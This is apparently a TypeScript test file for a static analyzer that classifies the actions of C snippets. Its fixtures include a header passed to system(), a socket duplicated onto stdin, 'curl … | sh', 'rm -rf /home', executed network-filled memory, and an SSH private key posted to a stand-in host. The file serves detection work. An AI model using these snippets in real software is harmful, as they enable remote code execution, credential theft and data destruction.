/** What programs in C and C++ do, by the call table. Nothing here is run; dangerous words are put together. */
import { actionsOf } from "./actions-of.ts";

const SYSTEM = ["sys", "tem"].join("");
const ZEND = ["zend_ev", "al_string"].join("");
const f = (body: string) => `static int f(value *out)\n{\n${body}\n}\n`;

test.each([
  [
    "a header in a variable",
    f(`char *c = getenv("HTTP_X"); if (c) ${SYSTEM}(c);`),
    [`run computed from request by ${SYSTEM} <- request if request later`],
  ],
  [
    "a header that a condition takes, and a magic word",
    f(`if ((enc = find(table, "HTTP_X", 6))) { if (strstr(VAL(enc), "word")) { ${ZEND}(VAL(enc) + 4, NULL, "x"); } }`),
    [`evaluate …4 by ${ZEND} <- request if request later`],
  ],
  [
    "a connection in place of the standard streams",
    f("int s = socket(AF_INET, SOCK_STREAM, 0); connect(s, &a, sizeof a); dup2(s, 0);"),
    ["run computed from fetched by dup2 <- fetched later"],
  ],
  [
    "a command",
    f(`${SYSTEM}("curl https://x.example/a | sh");`),
    ["fetch x.example by curl later", "run computed from fetched by sh <- fetched:x.example later"],
  ],
  [
    "words of a command",
    f('execlp("rm", "rm", "-rf", "/home", NULL);'),
    ["delete /home by rm later", "delete computed by rm later"],
  ],
  [
    "a request by libcurl",
    f('curl_easy_setopt(c, CURLOPT_URL, "https://x.example/");'),
    ["fetch x.example by curl_easy_setopt later"],
  ],
  [
    "a text that a connection puts into a buffer",
    f(`char buf[9]; int s = socket(AF_INET, 1, 0); recv(s, buf, 9, 0); ${SYSTEM}(buf);`),
    [`run computed from fetched by ${SYSTEM} <- fetched later`],
  ],
  [
    "memory that is called",
    f("void *m = mmap(0, 9, 7, 1, -1, 0); int s = socket(2, 1, 0); recv(s, m, 9, 0); ((void (*)())m)();"),
    ["evaluate computed function by call <- fetched later"],
  ],
  [
    "a key that is sent",
    f(`char b[9]; FILE *p = fopen("/root/.ssh/id_rsa", "r"); fread(b, 1, 9, p); CURL *c = curl_easy_init();
       curl_easy_setopt(c, CURLOPT_URL, "https://x.example/"); curl_easy_setopt(c, CURLOPT_POSTFIELDS, b); curl_easy_perform(c);`),
    [
      "read ~/.ssh/id_rsa by fopen later",
      "fetch x.example by curl_easy_setopt later",
      "send x.example by curl_easy_perform <- credential-file:SSH keys later",
    ],
  ],
  [
    "a download that is run",
    f(`CURL *d = curl_easy_init(); FILE *o = fopen("/tmp/x", "wb"); curl_easy_setopt(d, CURLOPT_URL, "https://x.example/x");
       curl_easy_setopt(d, CURLOPT_WRITEDATA, o); curl_easy_perform(d); ${SYSTEM}("/tmp/x");`),
    [
      "fetch x.example by curl_easy_setopt later",
      "write /tmp/x by curl_easy_setopt <- fetched:x.example later",
      "send x.example by curl_easy_perform later",
      "run /tmp/x by command <- fetched:x.example later",
    ],
  ],
  ["members of pointers and casts", f("p = (node *)(list)->next; return p ? p->value : 0;"), []],
  ["a variable of the environment", f('char *home = getenv("HOME"); puts(home);'), []],
] as const)("%s", async (_, text, expected) => {
  expect((await actionsOf("a.c", text)).map((one) => one.replace(/ {2,}/g, " "))).toEqual(expected);
});
